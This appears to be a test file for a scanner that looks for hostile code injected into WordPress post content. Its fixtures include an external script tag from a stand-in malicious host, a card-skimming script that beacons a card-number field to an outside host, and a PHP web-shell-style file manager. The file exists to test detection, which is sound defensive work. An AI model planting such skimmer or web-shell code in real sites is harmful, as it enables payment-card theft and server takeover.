import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { madeUp } from '../../../../test/databases/made-up.ts';
import { CannotTell } from '../../../core/errors.ts';
import type { Json } from '../../../core/fact.ts';
import type { Knowledge } from '../../../core/hands.ts';
import type { Tools } from '../../../core/tools.ts';
import probe from './content-scripts.ts';

const quiet = { debug() {}, info() {}, warn() {}, error() {} };
const tools: Tools = { now: () => new Date(0), signal: new AbortController().signal, log: quiet, tell() {} };
const own = { config: undefined, prefix: 'wp_' };
const known: Readonly<Record<string, Json>> = {
  'malware/php': JSON.parse(
    readFileSync(new URL('../../../../knowledge/malware/php.json', import.meta.url), 'utf8'),
  ) as Json,
};
const knowing = (parts: Readonly<Record<string, Json>>): Knowledge => ({
  date: '2026-01-01',
  part: async (name) => parts[name],
  lines: async () => undefined,
});
const knowledge = knowing(known);
const inDatabase = { id: 'woocommerce', certainty: 'certain' as const, versions: [] };

const post = {
  ID: 7,
  post_content: '<p>Hello</p>',
  post_status: 'publish',
  post_type: 'page',
  post_title: 'x',
  post_excerpt: '',
};
const settings = { urls: [{ name: 'siteurl', value: 'https://shop.example' }], flags: {}, secrets: [] };

test('hostile code is told with its row, and clean content is not', async () => {
  const evil = `<p>x</p>${['<scr', 'ipt src="https://cdn.evil-stats.top/a.js"></scr', 'ipt>'].join('')}`;
  const database = madeUp({ wp_posts: [post, { ...post, ID: 8, post_content: evil }] });

  const { content } = await probe.gather({ database, own, knowledge }, { inDatabase, settings }, tools);

  assert.ok('injections' in content);
  assert.deepEqual(
    content.injections.map(({ table, row, confidence }) => [table, row, confidence]),
    [['wp_posts', '8', 'firm']],
  );
  assert.equal(content.hosts[0]?.host, 'cdn.evil-stats.top');
});

test('a database without the content of the engine tells nothing', async () => {
  await assert.rejects(
    probe.gather({ database: madeUp({ wp_other: [] }), own, knowledge }, { inDatabase, settings }, tools),
    CannotTell,
  );
});

test('a thief that reads card fields is told with what it does', async () => {
  const field = ['cc', 'number'].join('_');
  const code = `document.addEventListener('change', function () { navigator.sendBeacon('https://c.stats.test/x', btoa(document.getElementById('${field}').value)); });`;
  const database = madeUp({ wp_posts: [{ ...post, post_content: `<p>x</p><script>${code}</script>` }] });

  const { content } = await probe.gather({ database, own, knowledge }, { inDatabase, settings }, tools);

  assert.ok('injections' in content);
  assert.ok(
    content.injections.some(({ mark, says }) => mark === 'card thief' && says.includes('the fields of the card')),
  );
});

test('PHP kept in content is judged as files are, with the model', async () => {
  const manager = `<?php $d = $_GET['d']; chdir($d); foreach (scandir($d) as $f) { echo $f, fileperms($f); }
    if (isset($_GET['x'])) unlink($_GET['x']); if (isset($_GET['r'])) rename($_GET['r'], $_GET['n']);
    if (isset($_POST['c'])) chmod($_POST['f'], octdec($_POST['c']));
    echo php_uname(), getcwd(), disk_free_space('/'), posix_getpwuid(fileowner($d))['name'];
    echo '<a href="?d=', urlencode($d), '">', htmlspecialchars(file_get_contents($_GET['v'])), '</a>';`;
  const honest = `<?php $args = ['post_type' => 'product', 'posts_per_page' => 4]; $query = new WP_Query($args);
    while ($query->have_posts()) { $query->the_post(); the_title('<h2>', '</h2>'); echo esc_html($_GET['tab'] ?? ''); }
    wp_reset_postdata(); echo do_shortcode(str_replace('{year}', date('Y'), get_option('footer'))); call_user_func('the_content');`;
  const rows = [honest, manager].map((code, at) => ({ ...post, ID: at + 1, post_content: code }));
  const gather = async (hand: Knowledge) => {
    const database = madeUp({ wp_posts: rows });
    const { content } = await probe.gather({ database, own, knowledge: hand }, { inDatabase, settings }, tools);
    assert.ok('injections' in content);
    return content.injections.map(({ row, confidence }) => [row, confidence]);
  };

  const without = await gather(knowing({}));
  const found = await gather(knowledge);

  assert.deepEqual(without, [['2', 'tentative']]);
  assert.deepEqual(found, [['2', 'firm']]);
});
